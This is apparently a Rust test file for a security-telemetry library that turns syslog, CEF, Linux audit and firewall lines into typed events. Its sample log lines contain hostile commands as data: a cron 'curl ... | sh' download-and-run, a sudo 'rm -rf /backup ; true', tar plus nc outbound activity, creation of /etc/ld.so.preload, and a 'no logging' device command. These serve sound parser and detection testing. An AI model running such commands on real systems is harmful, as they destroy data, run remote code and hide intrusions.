//! Syslog and what it carries, CEF, and audit records, from lines to events. The samples are written from the specifications.

#![expect(clippy::unwrap_used, reason = "a test may fail and say why")]

use leckwehr_telemetry::{Events, Intake, Kind, Outcome, Product, SyslogClock};

fn read(lines: &[&str]) -> (Intake, Events) {
    let mut intake = Intake::new();
    let reference = "2023-04-26T00:00:00Z".parse().unwrap();
    intake.set_clock(SyslogClock {
        reference,
        offset_s: 7_200,
    });
    let mut file = tempfile::NamedTempFile::new().unwrap();
    std::io::Write::write_all(&mut file, lines.join("\n").as_bytes()).unwrap();
    intake.read_file(file.path()).unwrap();
    let events = intake.take();
    (intake, events)
}

fn one(line: &str) -> Events {
    let (intake, events) = read(&[line]);
    assert_eq!(
        (events.len(), intake.damaged_total()),
        (1, 0),
        "{line}: {:?}",
        intake.damaged()
    );
    events
}

#[test]
fn log_ons_over_ssh_are_told_by_their_outcome() {
    let events = one(
        "<86>Apr 25 05:12:09 fs-1 sshd[402]: Failed password for invalid user a from 10.0.0.9 port 22 ssh2 from 10.1.2.3 port 40022 ssh2",
    );
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.outcome(), event.product()),
        (Kind::Logon, Outcome::Failure, Product::Linux)
    );
    assert_eq!(
        (event.host(), event.origin(), event.origin_port()),
        ("fs-1", "10.1.2.3", 40_022)
    );
    assert_eq!(
        event.account(),
        "a from 10.0.0.9 port 22 ssh2",
        "an account's name is what the peer likes it to be"
    );
    assert_eq!(
        event.time().to_string(),
        "2023-04-25T03:12:09.000Z",
        "local time of the source"
    );
    assert_eq!(event.service(), "sshd");
    let events = one(
        "<38>1 2023-04-25T05:12:09+02:00 fs-1 sshd-session 9 - - Accepted publickey for eve from 2001:db8::7 port 22 ssh2: ED25519 SHA256:x",
    );
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.outcome(), event.account()),
        (Kind::Logon, Outcome::Success, "eve")
    );
    assert_eq!(
        (event.origin(), event.field("auth_method")),
        ("2001:db8::7", Some("publickey"))
    );
}

#[test]
fn programs_started_by_sudo_and_cron_are_processes() {
    let events =
        one("Apr 25 05:12:09 fs-1 sudo:    eve : TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/rm -rf /backup ; true");
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.category(), event.account()),
        (Kind::Process, "process_creation", "eve")
    );
    assert_eq!(
        (event.object(), event.field("Image")),
        ("/usr/bin/rm -rf /backup ; true", Some("/usr/bin/rm"))
    );
    assert_eq!(
        (event.field("USER"), event.field("CurrentDirectory")),
        (Some("root"), Some("/home/eve"))
    );
    let refused = one("Apr 25 05:12:09 fs-1 sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh");
    assert_eq!(
        (refused.get(0).unwrap().outcome(), refused.get(0).unwrap().category()),
        (Outcome::Failure, "")
    );
    let events = one("Apr 25 05:12:09 fs-1 CRON[7]: (root) CMD (curl http://10.0.0.9/x | sh)");
    assert_eq!(events.get(0).unwrap().object(), "curl http://10.0.0.9/x | sh");
}

#[test]
fn packets_refused_by_the_kernel_are_flows() {
    let events = one(
        "<4>Apr 25 05:12:09 fs-1 kernel: [12.5] [UFW BLOCK] IN=eth0 OUT= MAC=x SRC=10.0.0.9 DST=10.0.0.1 LEN=60 PROTO=TCP SPT=4 DPT=22",
    );
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.category(), event.action()),
        (Kind::Flow, "firewall", "blocked")
    );
    assert_eq!(
        (event.origin(), event.destination(), event.port()),
        ("10.0.0.9", "10.0.0.1", 22)
    );
}

#[test]
fn cef_inside_of_syslog_has_the_columns_of_its_dictionary() {
    let events = one(
        "<134>Apr 25 05:12:09 fw-1 CEF:0|Some Vendor|Gate|1.0|100|web request|3|rt=1682392329000 src=10.1.2.3 spt=5 \
                      dst=192.0.2.9 dpt=443 request=https://x.example/a?b\\=c requestMethod=POST out=9000 in=100 suser=eve act=blocked \
                      cs1Label=Rule cs1=Egress",
    );
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.category(), event.outcome()),
        (Kind::Web, "proxy", Outcome::Failure)
    );
    assert_eq!(
        (event.origin(), event.destination(), event.port(), event.account()),
        ("10.1.2.3", "192.0.2.9", 443, "eve")
    );
    assert_eq!(
        (event.bytes_out(), event.bytes_in(), event.host()),
        (Some(9_000), Some(100), "fw-1")
    );
    assert_eq!(
        (event.field("Rule"), event.field("c-uri")),
        (Some("Egress"), Some("https://x.example/a?b=c"))
    );
    assert_eq!(event.time().to_string(), "2023-04-25T03:12:09.000Z");
}

#[test]
fn lines_of_one_audit_event_become_one_event() {
    let (intake, events) = read(&[
        "type=SYSCALL msg=audit(1682392329.100:50): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 ppid=1 pid=9 auid=1000 uid=0 comm=\"tar\" exe=\"/usr/bin/tar\" key=(null)",
        "type=SYSCALL msg=audit(1682392329.200:51): arch=c000003e syscall=42 success=yes exit=0 pid=9 uid=0 exe=\"/usr/bin/nc\"",
        "type=EXECVE msg=audit(1682392329.100:50): argc=3 a0=\"tar\" a1=2D63 a2=\"/srv\"",
        "type=CWD msg=audit(1682392329.100:50): cwd=\"/root\"",
        "type=SOCKADDR msg=audit(1682392329.200:51): saddr=020001BB0A0000090000000000000000",
        "type=PATH msg=audit(1682392329.100:50): item=0 name=\"/usr/bin/tar\" nametype=NORMAL",
        "type=PROCTITLE msg=audit(1682392329.100:50): proctitle=746172002D63",
        "type=USER_LOGIN msg=audit(1682392330.000:53): pid=1 uid=0 msg='op=login acct=\"eve\" exe=\"/usr/sbin/sshd\" hostname=? addr=10.1.2.3 terminal=ssh res=failed'",
        "type=SYSCALL msg=audit(1682392331.000:54): arch=c000003e syscall=257 success=yes exit=3 pid=9 uid=0 exe=\"/usr/bin/touch\"",
        "type=CWD msg=audit(1682392331.000:54): cwd=\"/etc\"",
        "type=PATH msg=audit(1682392331.000:54): item=0 name=\"/etc\" nametype=PARENT",
        "type=PATH msg=audit(1682392331.000:54): item=1 name=\"ld.so.preload\" nametype=CREATE",
    ]);
    let mut found: Vec<_> = events
        .iter()
        .map(|e| (e.record(), e.kind(), e.category().to_owned(), e.object().to_owned()))
        .collect();
    found.sort_by_key(|f| f.0);
    assert_eq!(
        found,
        [
            (1, Kind::Process, "process_creation".to_owned(), "tar -c /srv".to_owned()),
            (2, Kind::Flow, "network_connection".to_owned(), String::new()),
            (8, Kind::Logon, String::new(), String::new()),
            (9, Kind::File, "file_event".to_owned(), "/etc/ld.so.preload".to_owned()),
        ]
    );
    let process = events.iter().find(|e| e.kind() == Kind::Process).unwrap();
    let types: Vec<_> = process.values("type").collect();
    assert_eq!(types, ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]);
    assert_eq!(
        (process.field("a0"), process.field("a1"), process.field("syscall.a0")),
        (Some("tar"), Some("-c"), Some("55"))
    );
    assert_eq!(
        (process.field("SYSCALL"), process.field("Image"), process.field("User")),
        (Some("execve"), Some("/usr/bin/tar"), Some("0"))
    );
    let flow = events.iter().find(|e| e.kind() == Kind::Flow).unwrap();
    assert_eq!(
        (flow.destination(), flow.port(), flow.field("Initiated")),
        ("10.0.0.9", 443, Some("true"))
    );
    let logon = events.iter().find(|e| e.kind() == Kind::Logon).unwrap();
    assert_eq!(
        (logon.account(), logon.origin(), logon.outcome()),
        ("eve", "10.1.2.3", Outcome::Failure)
    );
    let account = intake.accounts().values().find(|a| a.is_numbered()).unwrap();
    assert_eq!((account.records, account.missing), (4, 1), "serial 52 never came");
}

#[test]
fn audit_events_that_never_end_do_not_pile_up() {
    let lines: Vec<String> = (0..5_000)
        .map(|serial| format!("type=SYSCALL msg=audit(1682392329.100:{serial}): arch=c000003e syscall=2"))
        .collect();
    let (_, events) = read(&lines.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(events.len(), 5_000);
    let long: Vec<String> = (0..3_000)
        .map(|i| format!("type=EXECVE msg=audit(1682392329.100:7): a{i}={}", "41".repeat(500)))
        .collect();
    let (intake, events) = read(&long.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(
        (2..10).contains(&events.len()),
        "an event beyond its limit goes on as another one: {}",
        events.len()
    );
    assert_eq!(intake.damaged_total(), 0);
}

#[test]
fn devices_with_a_grammar_of_their_own_are_known() {
    let events = one(
        "<189>date=2023-04-25 time=05:12:09 devname=\"fw-1\" devid=\"F\" eventtime=1682392329000000000 tz=\"+0200\" \
                      logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=10.1.2.3 srcport=9 dstip=192.0.2.9 dstport=443 \
                      action=\"close\" service=\"HTTPS\" sentbyte=5 rcvdbyte=6 duration=2",
    );
    let event = events.get(0).unwrap();
    assert_eq!(
        (event.kind(), event.category(), event.service(), event.host()),
        (Kind::Flow, "firewall", "traffic", "fw-1")
    );
    assert_eq!((event.bytes_out(), event.duration_ns()), (Some(5), Some(2_000_000_000)));
    let events = one("<189>29: Apr 25 05:12:09.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:eve  logged command:no logging");
    assert_eq!(
        (events.get(0).unwrap().service(), events.get(0).unwrap().action()),
        ("parser", "CFGLOG_LOGGEDCMD")
    );
}
